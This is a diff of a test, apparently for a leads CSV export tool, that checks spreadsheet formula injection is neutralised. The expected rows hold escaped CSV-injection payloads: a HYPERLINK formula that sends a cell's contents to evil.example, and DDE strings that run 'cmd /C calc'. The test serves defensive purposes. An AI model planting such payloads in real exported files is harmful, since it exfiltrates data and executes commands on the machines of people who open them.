@@ -59,7 +59,7 @@ describe.each(BACKENDS)("npm run leads -- export on %s", (backend) => {
     expect(leads(["export"], env)).toBe(
       [
         "type,date,name,email,company,phone,service,budget,message",
-        `contact,2026-03-01T10:00:00.000Z,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",eve@example.org,'+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,'\t=1+1,"'\r=1+1"`,
+        `contact,2026-03-01T10:00:00.000Z,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",eve@example.org,'+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,"'\t=1+1","'\r=1+1"`,
         `contact,2026-03-01T10:00:00.000Z,' =1+1,eve@example.org,"'\n+1",'\uFF1D1+1,"Web, mobile",'-,A budget of -5% and =2 is fine`,
         "subscriber,2026-03-02T10:00:00.000Z,,'-1+1@evil.example,,,,,",
         "",
